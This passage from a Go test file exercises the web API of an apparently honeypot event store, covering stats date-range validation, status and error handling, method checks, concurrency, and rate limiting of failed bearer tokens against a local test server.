		{"to day 31 of June", q("from", "2025-06-01", "to", "2025-06-31"), "to"},
		{"to before from", q("from", "2025-06-12", "to", "2025-06-11"), "before"},
		{"range over the max", q("from", "2000-01-01", "to", "2025-06-12"), "at most"},
		{"range far over the max", q("from", "0001-01-01", "to", "9999-12-31"), "at most"},
		// 3662 days, both ends inclusive.
		{"just over the max", q("from", "2015-01-01", "to", time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, 3661).Format(time.DateOnly)), "at most"},
	}
	for _, tc := range bad {
		t.Run(tc.name, func(t *testing.T) {
			wantError(t, f.get(t, "/api/v1/stats/daily"+tc.query), http.StatusBadRequest, tc.contains)
		})
	}

	t.Run("the max", func(t *testing.T) {
		// 3660 days, both ends inclusive, June 2025 among them.
		from := time.Date(2016, 1, 1, 0, 0, 0, 0, time.UTC)
		r := f.get(t, "/api/v1/stats/daily"+q("from", from.Format(time.DateOnly), "to", from.AddDate(0, 0, 3659).Format(time.DateOnly)))
		var got daily
		wantJSON(t, r, http.StatusOK, &got)
		if !slices.Equal(got.Days, slices.Concat(d10, d11, d12)) {
			t.Errorf("days = %+v", got.Days)
		}
	})

	t.Run("one day over the max", func(t *testing.T) {
		from := time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC)
		r := f.get(t, "/api/v1/stats/daily"+q("from", from.Format(time.DateOnly), "to", from.AddDate(0, 0, 3660).Format(time.DateOnly)))
		wantError(t, r, http.StatusBadRequest, "at most")
	})
}

func TestStatus(t *testing.T) {
	type busStats struct {
		Stream   string `json:"stream"`
		Messages uint64 `json:"messages"`
		Pending  uint64 `json:"pending"`
	}
	t.Run("without bus stats", func(t *testing.T) {
		f := newFixture(t)
		var got map[string]json.RawMessage
		wantJSON(t, f.get(t, "/api/v1/status"), http.StatusOK, &got)
		if string(got["events_stored"]) != fmt.Sprint(len(f.evs)) {
			t.Errorf("events_stored = %s, want %d", got["events_stored"], len(f.evs))
		}
		if _, ok := got["bus"]; ok {
			t.Errorf("bus present without BusStats: %s", got["bus"])
		}
	})
	t.Run("with bus stats", func(t *testing.T) {
		var calls int
		var mu sync.Mutex
		f := newFixture(t, func(o *web.Options) {
			o.BusStats = func(ctx context.Context) (any, error) {
				if ctx == nil || ctx.Err() != nil {
					return nil, errors.New("no live request context")
				}
				mu.Lock()
				calls++
				mu.Unlock()
				return busStats{Stream: "HONEYGATE_EVENTS", Messages: 53, Pending: 7}, nil
			}
		})
		var got struct {
			EventsStored int64    `json:"events_stored"`
			Bus          busStats `json:"bus"`
			Build        struct {
				Version, Commit, Date, Go string
				Dirty                     bool
			} `json:"build"`
		}
		wantJSON(t, f.get(t, "/api/v1/status"), http.StatusOK, &got)
		if got.Build.Version == "" || got.Build.Commit == "" {
			t.Errorf("status lacks the build: %+v", got.Build)
		}
		if got.EventsStored != int64(len(f.evs)) {
			t.Errorf("events_stored = %d, want %d", got.EventsStored, len(f.evs))
		}
		if want := (busStats{"HONEYGATE_EVENTS", 53, 7}); got.Bus != want {
			t.Errorf("bus = %+v, want %+v", got.Bus, want)
		}
		mu.Lock()
		defer mu.Unlock()
		if calls != 1 {
			t.Errorf("BusStats called %d times, want 1", calls)
		}
	})
	t.Run("bus stats fail", func(t *testing.T) {
		f := newFixture(t, func(o *web.Options) {
			o.BusStats = func(context.Context) (any, error) {
				return nil, errors.New("nats: connection closed (secret detail)")
			}
		})
		r := f.get(t, "/api/v1/status")
		wantError(t, r, http.StatusInternalServerError, "internal error")
		if strings.Contains(string(r.body), "secret detail") {
			t.Errorf("internal error leaked to the client: %s", r.body)
		}
		if !strings.Contains(f.log.String(), "secret detail") {
			t.Errorf("internal error not logged; log:\n%s", f.log.String())
		}
	})
}

func TestStoreErrors(t *testing.T) {
	db := openStore(t)
	logs := &testkit.SyncBuffer{}
	h := web.New(web.Options{Store: db, Token: token, Log: slog.New(slog.NewTextHandler(logs, nil))})

	t.Run("cancelled request", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		req := httptest.NewRequestWithContext(ctx, http.MethodGet, "/api/v1/events", nil)
		req.Header.Set("Authorization", "Bearer "+token)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, req)
		wantError(t, response{code: w.Code, header: w.Header(), body: w.Body.Bytes()}, 499, "cancel")
	})

	t.Run("store closed", func(t *testing.T) {
		if err := db.Close(); err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{"/api/v1/events", "/api/v1/status", "/api/v1/sessions/" + sMiraiFull, "/api/v1/stats/daily"} {
			req := httptest.NewRequest(http.MethodGet, p, nil)
			req.Header.Set("Authorization", "Bearer "+token)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, req)
			r := response{code: w.Code, header: w.Header(), body: w.Body.Bytes()}
			wantError(t, r, http.StatusInternalServerError, "internal error")
			if strings.Contains(string(r.body), "sqlite") {
				t.Errorf("%s: internal error leaked: %s", p, r.body)
			}
		}
		if !strings.Contains(logs.String(), "sqlite") {
			t.Errorf("store errors not logged; log:\n%s", logs.String())
		}
	})
}

func TestUnknownAPIPath(t *testing.T) {
	f := newFixture(t)
	tests := []struct{ method, path, contains string }{
		{http.MethodGet, "/api/v1/nope", "/api/v1/nope"},
		{http.MethodGet, "/api/v2/events", "no such API endpoint"},
		{http.MethodGet, "/api/", "no such API endpoint"},
		{http.MethodGet, "/api/v1/events/", "no such API endpoint"},
		{http.MethodGet, "/api/v1/sessions/", "no such API endpoint"},
		{http.MethodGet, "/api/v1/sessions/a/b", "no such API endpoint"},
	}
	for _, tc := range tests {
		t.Run(tc.method+" "+tc.path, func(t *testing.T) {
			wantError(t, f.do(t, tc.method, tc.path, "Bearer "+token), http.StatusNotFound, tc.contains)
			r := f.do(t, tc.method, tc.path, "")
			wantError(t, r, http.StatusUnauthorized)
			if r.header.Get("WWW-Authenticate") == "" {
				t.Errorf("401 without WWW-Authenticate")
			}
		})
	}
}

// A path that exists answers another method with 405 and Allow (RFC 9110
// 15.5.6), not 404.
func TestWrongMethod(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct{ method, path string }{
		{http.MethodPost, "/api/v1/events"},
		{http.MethodDelete, "/api/v1/sessions/" + sMiraiFull},
		{http.MethodPut, "/api/v1/stats/daily"},
	} {
		r := f.do(t, tc.method, tc.path, "Bearer "+token)
		wantError(t, r, http.StatusMethodNotAllowed, tc.method)
		if got := r.header.Get("Allow"); got != "GET, HEAD" {
			t.Errorf("%s %s: Allow %q", tc.method, tc.path, got)
		}
		wantError(t, f.do(t, tc.method, tc.path, ""), http.StatusUnauthorized)
	}
}

// Concurrent readers against the same handler and store, for -race.
func TestConcurrentRequests(t *testing.T) {
	f := newFixture(t, func(o *web.Options) {
		o.BusStats = func(context.Context) (any, error) { return map[string]int{"pending": 0}, nil }
	})
	paths := []string{
		"/api/v1/events" + q("kind", "login.failed"),
		"/api/v1/sessions/" + sMiraiFull,
		"/api/v1/stats/daily" + q("from", "2025-06-10", "to", "2025-06-12"),
		"/api/v1/status",
		"/healthz",
	}
	var wg sync.WaitGroup
	errs := make(chan error, 8*len(paths))
	for range 8 {
		for _, p := range paths {
			wg.Go(func() {
				req, _ := http.NewRequest(http.MethodGet, f.url+p, nil)
				req.Header.Set("Authorization", "Bearer "+token)
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					errs <- err
					return
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK {
					errs <- fmt.Errorf("%s: status %d", p, resp.StatusCode)
				}
			})
		}
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// An address that attacked two ports (and, with a session of no family,
// two families) in a day is one distinct source: the API's totals and
// /api/v1/stats/sources count it once, where the rollup buckets, summed,
// count it per bucket.
func TestDistinctSources(t *testing.T) {
	f := newFixture(t)
	period := q("from", "2025-06-10", "to", "2025-06-12")
	var got daily
	wantJSON(t, f.get(t, "/api/v1/stats/daily"+period), http.StatusOK, &got)
	summed := map[string]int64{}
	for _, d := range got.Days {
		summed[d.Day] += d.Sources
	}
	if summed["2025-06-10"] != 3 || summed["2025-06-11"] != 3 {
		t.Fatalf("buckets summed %v: the fixture no longer has an address in two buckets a day", summed)
	}
	wantTotals := []store.DailySource{
		{Day: "2025-06-10", Sessions: 3, Sources: 2}, // 203.0.113.7 (mirai and no family), 198.51.100.23
		{Day: "2025-06-11", Sessions: 4, Sources: 2}, // 192.0.2.44 on 23 and 2323, 203.0.113.7
		{Day: "2025-06-12", Sessions: 1, Sources: 1},
	}
	if !slices.Equal(got.Totals, wantTotals) {
		t.Errorf("totals = %+v, want %+v", got.Totals, wantTotals)
	}
	var by struct {
		From string              `json:"from"`
		To   string              `json:"to"`
		By   string              `json:"by"`
		Days []store.DailySource `json:"days"`
	}
	wantJSON(t, f.get(t, "/api/v1/stats/sources"+period), http.StatusOK, &by)
	if !slices.Equal(by.Days, wantTotals) {
		t.Errorf("sources by day = %+v, want %+v", by.Days, wantTotals)
	}
	wantJSON(t, f.get(t, "/api/v1/stats/sources"+q("from", "2025-06-11", "to", "2025-06-11", "by", "family")), http.StatusOK, &by)
	if want := []store.DailySource{{Day: "2025-06-11", Key: "mirai", Sessions: 4, Sources: 2}}; by.By != "family" || !slices.Equal(by.Days, want) {
		t.Errorf("sources by family = %s %+v, want %+v", by.By, by.Days, want)
	}
	wantJSON(t, f.get(t, "/api/v1/stats/sources"+q("from", "2025-06-11", "to", "2025-06-11", "by", "port")), http.StatusOK, &by)
	if want := []store.DailySource{{Day: "2025-06-11", Key: "23", Sessions: 3, Sources: 2}, {Day: "2025-06-11", Key: "2323", Sessions: 1, Sources: 1}}; !slices.Equal(by.Days, want) {
		t.Errorf("sources by port = %+v, want %+v", by.Days, want)
	}
	wantError(t, f.get(t, "/api/v1/stats/sources"+q("by", "asn")), http.StatusBadRequest, "by")
}

// Failed bearer tokens are limited per client address as sign-ins are:
// after ten failures from one address, its requests get 429 with
// Retry-After, even with the right token, and whatever the path; another
// address is not affected; the dashboard's sign-in shares the count.
func TestAuthLimited(t *testing.T) {
	f := newFixture(t)
	a, b := f.from("127.0.2.1"), f.from("127.0.2.2")
	for i := range 10 {
		wantError(t, a.do(t, http.MethodGet, "/api/v1/status", "Bearer guess-"+fmt.Sprint(i)), http.StatusUnauthorized, "bearer token")
	}
	for _, p := range []string{"/api/v1/status", "/api/v1/events"} {
		r := a.get(t, p)
		wantError(t, r, http.StatusTooManyRequests, "try again later")
		if ra := r.header.Get("Retry-After"); ra == "" || ra == "0" {
			t.Errorf("429 without Retry-After: %q", ra)
		}
	}
	// Another address, and the right token many times over (a success is
	// given back, so it never adds up to a limit).
	for range 30 {
		if r := b.get(t, "/api/v1/status"); r.code != http.StatusOK {
			t.Fatalf("another address with the right token: %d %s", r.code, r.body)
		}
	}
	// The dashboard's sign-in from the limited address, with the right
	// token: limited too (one count per address for both).
	jar, _ := cookiejar.New(nil)
	a.c.Jar = jar
	form := a.do(t, http.MethodGet, "/login", "")
	m := regexp.MustCompile(`name="csrf" value="([0-9a-f]{64})"`).FindSubmatch(form.body)
	if m == nil {
		t.Fatalf("no csrf field in the sign-in form: %s", form.body)
	}
	resp, err := a.c.PostForm(f.url+"/login", url.Values{"token": {token}, "csrf": {string(m[1])}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("dashboard sign-in with the token from the limited address: %d, want 429", resp.StatusCode)
	}
	// /healthz and /metrics take no token and are not limited.
	if r := a.do(t, http.MethodGet, "/healthz", ""); r.code != http.StatusOK {
		t.Errorf("/healthz from the limited address: %d", r.code)
	}
}

// A flood of wrong tokens from more addresses than the limiter tracks
// (the 10,000-address attack) locks nobody out who did not fail: the
// right token from an address that never failed passes, a wrong one gets
// a 429 that blames the crowd, not the address; an address locked before
// the flood stays locked.
func TestAuthFloodLocksNobodyOut(t *testing.T) {
	f := newFixture(t)
	locked := f.from("127.0.3.1")
	for i := range 10 {
		wantError(t, locked.do(t, http.MethodGet, "/api/v1/status", "Bearer guess-"+fmt.Sprint(i)), http.StatusUnauthorized, "bearer token")
	}
	// 9,999 free slots and an overflow budget of 1,000.
	const flood = 9999 + 1000
	var wg sync.WaitGroup
	for w := range 8 {
		wg.Go(func() {
			for i := w; i < flood; i += 8 {
				g := f.from(fmt.Sprintf("127.1.%d.%d", i>>8, i&255))
				r, err := http.NewRequest(http.MethodGet, f.url+"/api/v1/status", nil)
				if err != nil {
					t.Error(err)
					return
				}
				r.Header.Set("Authorization", "Bearer wrong")
				resp, err := g.c.Do(r)
				if err != nil {
					t.Error(err)
					return
				}
				resp.Body.Close()
				g.c.CloseIdleConnections()
				if resp.StatusCode != http.StatusUnauthorized {
					t.Errorf("flood request %d: %d", i, resp.StatusCode)
					return
				}
			}
		})
	}
	wg.Wait()
	if r := f.from("127.0.0.1").get(t, "/api/v1/status"); r.code != http.StatusOK {
		t.Fatalf("the right token from 127.0.0.1 after the flood: %d %s", r.code, r.body)
	}
	fresh := f.from("127.250.0.1")
	start := time.Now()
	r := fresh.do(t, http.MethodGet, "/api/v1/status", "Bearer wrong")
	wantError(t, r, http.StatusTooManyRequests, "many addresses")
	if strings.Contains(string(r.body), "from this address") || time.Since(start) < time.Second {
		t.Errorf("a crowded failure blamed the address or was not slowed (%s): %s", time.Since(start), r.body)
	}
	if r := fresh.get(t, "/api/v1/status"); r.code != http.StatusOK {
		t.Fatalf("the right token from a fresh address after the flood: %d %s", r.code, r.body)
	}
	wantError(t, locked.get(t, "/api/v1/status"), http.StatusTooManyRequests, "from this address")
}
